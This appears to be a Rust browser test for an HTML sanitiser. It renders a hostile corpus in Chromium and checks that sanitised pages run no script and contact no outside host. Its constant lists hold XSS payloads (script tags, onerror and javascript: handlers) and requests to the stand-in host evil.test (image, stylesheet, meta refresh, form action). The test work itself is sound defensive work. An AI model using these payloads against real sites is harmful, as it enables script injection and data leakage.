//! R-13 in a real browser with scripts switched on: the rendered pages of the whole hostile corpus
//! run nothing and send nothing. Needs Chromium; says loudly when it was skipped.

mod chromium;
mod recorder;
mod visit;

use std::collections::BTreeSet;

use tempfile::TempDir;

use self::chromium::Chromium;
use self::recorder::{BROWSERS_OWN, Recorder};
use self::visit::Deed;
use super::attacks::{SWALLOWING, closed};
use super::{document, rendered};

/// How a person comes to the page.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Opened {
    /// From a web server, where an address without a host leads back to it.
    Served,
    /// As a file, which is how the attachment of a note is opened.
    Downloaded,
}

/// What a page did as the browser tells it, and what arrived at the recorder.
struct Visit {
    payload: String,
    deeds: Vec<Deed>,
    arrived: Vec<String>,
}

fn corpus() -> Vec<String> {
    let payloads: BTreeSet<String> =
        closed().into_iter().chain(SWALLOWING.iter().map(|it| (*it).to_owned())).collect();
    for host in BROWSERS_OWN {
        assert!(payloads.iter().all(|payload| !payload.contains(host)), "{host} is not recorded");
    }
    payloads.into_iter().collect()
}

/// The page that a customer gets, with the payload in every place that a stranger fills.
fn sanitised(payload: &str) -> String {
    let mut document = document(&format!("<p>words before</p>{payload}<p>words after</p>"));
    document.title = payload.to_owned();
    document.author = Some(payload.to_owned());
    document.language = Some(payload.to_owned());
    rendered(&document)
}

/// The payload as it came, behind nothing but the page's policy.
fn behind_the_policy(payload: &str) -> String {
    let page = rendered(&document("<p>words</p>"));
    assert_eq!(page.matches("<p>words</p>").count(), 1);
    page.replace("<p>words</p>", payload)
}

/// The payload as it came, behind nothing.
fn bare(payload: &str) -> String {
    format!("<!DOCTYPE html><meta charset=utf-8><title>Page</title><p>words</p>{payload}")
}

/// Opens the page of every payload; `None` without a browser.
fn visit_all(
    payloads: Vec<String>,
    page: fn(&str) -> String,
    opened: Opened,
) -> Option<Vec<Visit>> {
    let program = chromium::find()?;
    let folder = TempDir::new().unwrap();
    let recorder = Recorder::start(payloads.iter().map(|payload| page(payload)).collect());
    let mut browser = Chromium::start(&program, recorder.port);
    browser.watch();
    let mut visits = Vec::new();
    for (number, payload) in payloads.into_iter().enumerate() {
        let address = match opened {
            Opened::Served => recorder.address(number),
            Opened::Downloaded => {
                let path = folder.path().join(format!("{number}.html"));
                std::fs::write(&path, page(&payload)).unwrap();
                format!("file://{}", path.display())
            }
        };
        let deeds = browser.visit(&address);
        visits.push(Visit { payload, deeds, arrived: recorder.take_strange_requests() });
    }
    // What the last page set going ends with it, and the browser with this.
    let late = browser.visit("about:blank");
    drop(browser);
    let last = visits.last_mut().unwrap();
    last.deeds.extend(late);
    last.arrived.extend(recorder.take_strange_requests());
    Some(visits)
}

/// Deeds may be told with the page after; so a failure may lie one payload before the one it names.
#[track_caller]
fn assert_nothing_happened(opened: Opened) {
    let Some(visits) = visit_all(corpus(), sanitised, opened) else { return };
    assert!(visits.len() >= 300, "only {} pages", visits.len());
    for Visit { payload, deeds, arrived } in visits {
        assert_eq!(deeds, [], "{payload}");
        assert_eq!(arrived, Vec::<String>::new(), "{payload}");
    }
}

/// No script, no dialog, no request, no frame, no window, no other page; and nothing that the
/// page's policy had to stop: the sanitiser does it alone.
#[test]
fn r_13_a_browser_runs_and_sends_nothing_for_any_hostile_document() {
    assert_nothing_happened(Opened::Served);
}

#[test]
fn r_13_a_browser_runs_and_sends_nothing_for_any_hostile_document_that_was_downloaded() {
    assert_nothing_happened(Opened::Downloaded);
}

/// What no policy within a page can stop, so that the sanitiser alone stands before it: a redirect
/// is no load, and Chromium connects to a form's host before it reads the policy.
const PASSES_THE_POLICY: [&str; 2] = [
    "<META HTTP-EQUIV='ReFrEsH' CONTENT='0;//evil.test'>",
    "<form action=\"https://evil.test/x\">",
];

/// The second wall: were the sanitiser to let everything through, still nothing runs or leaves.
#[test]
fn r_13_the_policy_alone_lets_nothing_run_and_nothing_leave() {
    let mut payloads = corpus();
    payloads.retain(|payload| !PASSES_THE_POLICY.contains(&payload.as_str()));
    let Some(visits) = visit_all(payloads, behind_the_policy, Opened::Served) else { return };
    let mut blocked = 0;
    for Visit { payload, deeds, arrived } in visits {
        let ran = deeds.iter().any(|deed| matches!(deed, Deed::Script(_) | Deed::Dialog(_)));
        assert!(!ran, "{payload} ran: {deeds:?}");
        assert_eq!(arrived, Vec::<String>::new(), "{payload}");
        blocked += usize::from(deeds.iter().any(|deed| matches!(deed, Deed::Blocked(_))));
    }
    assert!(blocked >= 200, "the policy had to stop only {blocked} pages");
}

const RUNNING: &[&str] = &[
    "<script>ran = 1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror='ran = 1'>",
    "<p onclick='ran = 1'>words</p>",
    "<p onwheel='ran = 1'>words</p>",
    "<a href='javascript:ran = 1'>words</a>",
    "<a href='java\tscript:ran = 1'>words</a>",
    "<input autofocus onfocus='ran = 1'>",
    "<details open ontoggle='ran = 1'>words</details>",
    "<iframe srcdoc='<script>ran = 1</script>'></iframe>",
    "<form action='javascript:ran = 1'></form>",
    "<svg onload='ran = 1'></svg>",
];

const SENDING: &[&str] = &[
    "<img src=http://evil.test/a.png>",
    "<img src=https://evil.test/a.png>",
    "<img srcset='http://evil.test/a.png 1x'>",
    "<p style='background:url(http://evil.test/b)'>words</p>",
    "<style>@import 'http://evil.test/c.css';</style>",
    "<link rel=stylesheet href=http://evil.test/d.css>",
    "<iframe src=http://evil.test/e></iframe>",
    "<object data=http://evil.test/f></object>",
    "<video poster=http://evil.test/g></video>",
    "<meta http-equiv=refresh content='0;http://evil.test/h'>",
    "<form action=http://evil.test/i></form>",
    "<script src=http://evil.test/j></script>",
];

/// The canary: what watches the pages above does see a script and a request when there is one.
#[track_caller]
fn assert_seen(page: fn(&str) -> String, running: &[&str], sending: &[&str], opened: Opened) {
    // A quiet page behind each one collects what comes late.
    let payloads = running.iter().chain(sending).flat_map(|it| [(*it).to_owned(), String::new()]);
    let Some(visits) = visit_all(payloads.collect(), page, opened) else { return };
    for (number, pair) in visits.chunks(2).enumerate() {
        let payload = &pair[0].payload;
        let mut deeds = pair.iter().flat_map(|visit| &visit.deeds);
        if number < running.len() {
            assert!(deeds.any(|deed| matches!(deed, Deed::Script(_))), "{payload} ran unseen");
        } else {
            let mut arrived = pair.iter().flat_map(|visit| &visit.arrived);
            assert!(arrived.any(|line| line.contains("evil.test")), "{payload} sent unseen");
            assert!(deeds.next().is_some(), "{payload} is missing from the reports");
        }
    }
}

#[test]
fn r_13_a_browser_shows_what_runs_and_what_is_sent() {
    for opened in [Opened::Served, Opened::Downloaded] {
        assert_seen(bare, RUNNING, SENDING, opened);
    }
    assert_seen(behind_the_policy, &[], &PASSES_THE_POLICY[..1], Opened::Served);
}
